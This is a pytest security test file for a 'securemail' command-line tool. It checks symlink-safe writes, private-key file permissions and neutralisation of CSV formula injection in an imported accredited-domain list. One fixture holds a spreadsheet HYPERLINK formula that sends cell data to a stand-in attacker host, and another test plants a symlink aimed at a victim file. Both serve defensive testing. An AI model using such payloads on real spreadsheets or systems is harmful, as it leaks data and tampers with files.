"""Issue 10, item 17: files an operator's commands write cannot be hijacked or weaponised.

Through the real ``securemail`` command, as an operator would run it.
"""

import csv
import os
import stat
import subprocess
import sys

SECUREMAIL = [sys.executable, "-m", "securemail.cli"]


def run(*args, cwd, stdin=None):
    return subprocess.run(
        [*SECUREMAIL, *args], cwd=cwd, input=stdin, capture_output=True, timeout=60, check=False
    )


def _config(tmp_path):
    path = tmp_path / "securemail.toml"
    path.write_text(
        '[relay]\nusers_file = "users.toml"\n'
        '[tls]\ncert = "tls/cert.pem"\nkey = "tls/key.pem"\n'
        '[policy]\naccredited_list = "accredited.csv"\n'
    )
    return path


def test_user_add_does_not_write_through_a_planted_symlink(tmp_path):
    config = _config(tmp_path)
    victim = tmp_path / "victim"
    victim.write_text("untouched")
    # The first version wrote to a fixed temporary name next to the users file.
    (tmp_path / ".users.toml.tmp").symlink_to(victim)
    proc = run("user", "add", "alice", "--password-stdin", "-c", str(config), cwd=tmp_path,
               stdin=b"correct horse battery staple\n")  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    assert victim.read_text() == "untouched"
    users = tmp_path / "users.toml"
    assert not users.is_symlink() and stat.S_IMODE(users.stat().st_mode) == 0o600


def test_tls_selfsigned_force_never_leaves_a_readable_key(tmp_path):
    config = _config(tmp_path)
    (tmp_path / "tls").mkdir()
    key = tmp_path / "tls" / "key.pem"
    key.write_text("placeholder")
    key.chmod(0o644)
    proc = run("tls", "selfsigned", "--force", "-c", str(config), cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert b"PRIVATE KEY" in key.read_bytes()
    assert stat.S_IMODE(key.stat().st_mode) == 0o600


def test_accredited_names_cannot_become_spreadsheet_formulas(tmp_path):
    config = _config(tmp_path)
    src = tmp_path / "list.csv"
    src.write_text(
        "domain,organisation,expiry date\n"
        'evil.nhs.uk,"=HYPERLINK(""http://attacker.test/?""&A1,""click"")",2027-01-01\n'
        "plus.nhs.uk,+SUM(1),2027-01-01\n"
        "fine.nhs.uk,Fine Trust,2027-01-01\n"
    )
    proc = run("accredited", "import", str(src), "-c", str(config), cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    stored = (tmp_path / "accredited.csv").read_text()
    rows = [r for r in csv.reader(line for line in stored.splitlines() if not line.startswith("#"))]
    cells = [cell for row in rows for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), cells
    # ...and reading it back gives the names as the list had them.
    shown = run("accredited", "show", "--json", "-c", str(config), cwd=tmp_path)
    assert shown.returncode == 0, shown.stderr
    assert b"=HYPERLINK" in shown.stdout and b"+SUM(1)" in shown.stdout
    assert os.access(tmp_path / "accredited.csv", os.R_OK)
